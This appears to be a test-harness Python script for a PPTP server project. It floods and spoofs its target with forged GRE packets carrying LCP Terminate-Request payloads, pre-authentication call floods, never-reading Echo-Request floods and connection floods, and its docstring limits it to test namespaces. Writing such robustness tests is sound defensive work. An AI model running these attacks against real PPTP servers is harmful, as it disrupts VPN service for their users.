#!/usr/bin/env python3
"""The hostile peer of scripts/attack.sh (issue #14). Each attack is
bounded in count and time and prints one line of figures.

  attacker.py spoof SRC DST [ROUNDS]     forged GRE: every call ID, runs of
                                         3 far-ahead sequence numbers, MPPE
                                         and LCP Terminate-Request payloads
  attacker.py preauth SRC DST CONNS CALLS
                                         CONNS control connections, CALLS
                                         Outgoing-Call-Requests each, no PPP;
                                         holds them HOLD seconds (env, 10)
  attacker.py noread SRC DST CONNS SECS  SCCRQ then Echo-Requests as fast as
                                         the socket takes them, never reading
  attacker.py connflood SRC DST CONNS    CONNS control connections at once
                                         (SCCRQ each), counts the ones kept

Only for addresses inside the network namespaces the script creates.
"""
import os
import random
import socket
import struct
import sys
import time

MAGIC = 0x1A2B3C4D


def control(msg_type, body):
    length = 12 + len(body)
    return struct.pack("!HHIHH", length, 1, MAGIC, msg_type, 0) + body


def sccrq():
    # RFC 2637 §2.1: version 1.0, sync framing, analog bearer.
    body = struct.pack("!HHIIHH", 0x0100, 0, 1, 1, 1, 1)
    body += b"attacker".ljust(64, b"\0") + b"attack.py".ljust(64, b"\0")
    return control(1, body)


def ocrq(call_id):
    # RFC 2637 §2.7.
    body = struct.pack("!HHIIIIHHHH", call_id, call_id, 300, 100000000, 3, 3, 64, 0, 0, 0)
    body += b"\0" * 64 + b"\0" * 64
    return control(7, body)


def echo_request(ident):
    return control(5, struct.pack("!I", ident))


def connect(src, dst, timeout=5.0):
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.settimeout(timeout)
    s.bind((src, 0))
    s.connect((dst, 1723))
    return s


def read_some(s, seconds):
    """What arrives within `seconds` (b'' on close)."""
    s.settimeout(seconds)
    try:
        return s.recv(65536)
    except (socket.timeout, BlockingIOError):
        return None
    except OSError:
        return b""


def gre(call_id, seq, payload):
    # RFC 2637 §4.1: flags K and S, version 1, protocol 880B.
    return struct.pack("!HHHHI", 0x3001, 0x880B, len(payload), call_id, seq) + payload


def spoof(src, dst, rounds=1):
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, 47)
    s.bind((src, 0))
    rng = random.Random(1)
    lcp_terminate = bytes.fromhex("ff03c0210577 0004".replace(" ", ""))
    sent = 0
    t0 = time.time()
    for r in range(rounds):
        base = 0x40000000 + r * 0x1000
        for call_id in range(65536):
            for j in range(3):
                if (call_id + j) % 2:
                    count = rng.randrange(4096)
                    payload = bytes([0xFF, 0x03, 0x00, 0xFD, 0x90 | (count >> 8), count & 0xFF])
                    payload += rng.randbytes(60)
                else:
                    payload = lcp_terminate
                try:
                    s.sendto(gre(call_id, base + j, payload), (dst, 0))
                    sent += 1
                except OSError:
                    time.sleep(0.001)
    secs = time.time() - t0
    print(f"spoof: {sent} forged GRE packets in {secs:.1f} s ({sent / max(secs, 1e-9):.0f}/s)")


def preauth(src, dst, conns, calls):
    hold = float(os.environ.get("HOLD", "10"))
    accepted = refused = closed = 0
    socks = []
    call_id = 1
    for _ in range(conns):
        try:
            s = connect(src, dst)
        except OSError:
            closed += 1
            continue
        try:
            s.sendall(sccrq())
            reply = read_some(s, 2.0)
            if not reply:
                raise ConnectionError("closed")
            for _ in range(calls):
                s.sendall(ocrq(call_id))
                call_id += 1
        except OSError:
            closed += 1
            s.close()
            continue
        socks.append(s)
        # Replies: OCRP result 1 (connected) or a refusal.
        data = b""
        deadline = time.time() + 2.0
        while time.time() < deadline:
            got = read_some(s, 0.2)
            if got is None:
                if data.count(struct.pack("!I", MAGIC)) >= calls:
                    break
                continue
            if not got:
                break
            data += got
        i = 0
        while i + 12 <= len(data):
            length, _, _, mtype, _ = struct.unpack("!HHIHH", data[i:i + 12])
            if length < 12:
                break
            if mtype == 8 and i + 21 <= len(data):
                result = data[i + 16]
                if result == 1:
                    accepted += 1
                else:
                    refused += 1
            i += length
    print(f"preauth: {conns} connections ({closed} closed at once), "
          f"calls accepted {accepted}, refused {refused}; holding {hold:.0f} s")
    sys.stdout.flush()
    time.sleep(hold)
    for s in socks:
        s.close()


def noread(src, dst, conns, secs):
    socks = []
    for _ in range(conns):
        try:
            s = connect(src, dst)
            s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 4096)
            s.sendall(sccrq())
            s.setblocking(False)
            socks.append(s)
        except OSError:
            pass
    sent = 0
    ident = 0
    t0 = time.time()
    alive = set(range(len(socks)))
    while time.time() - t0 < secs and alive:
        for k in list(alive):
            msg = echo_request(ident) * 64
            ident += 1
            try:
                sent += socks[k].send(msg)
            except BlockingIOError:
                pass
            except OSError:
                alive.discard(k)
        time.sleep(0.001)
    print(f"noread: {len(socks)} connections, {sent} octets of Echo-Requests in {secs} s, "
          f"{len(socks) - len(alive)} closed by the server")
    for s in socks:
        s.close()


def connflood(src, dst, conns):
    kept = closed = failed = 0
    socks = []
    for _ in range(conns):
        try:
            s = connect(src, dst, timeout=2.0)
            s.sendall(sccrq())
            socks.append(s)
        except OSError:
            failed += 1
    for s in socks:
        reply = read_some(s, 2.0)
        if reply:
            kept += 1
        else:
            closed += 1
    print(f"connflood: {conns} connections: {kept} answered, {closed} closed unanswered, "
          f"{failed} not connected")
    for s in socks:
        s.close()


def main():
    cmd = sys.argv[1]
    a = sys.argv[2:]
    if cmd == "spoof":
        spoof(a[0], a[1], int(a[2]) if len(a) > 2 else 1)
    elif cmd == "preauth":
        preauth(a[0], a[1], int(a[2]), int(a[3]))
    elif cmd == "noread":
        noread(a[0], a[1], int(a[2]), float(a[3]))
    elif cmd == "connflood":
        connflood(a[0], a[1], int(a[2]))
    else:
        sys.exit(f"unknown attack {cmd}")


if __name__ == "__main__":
    main()
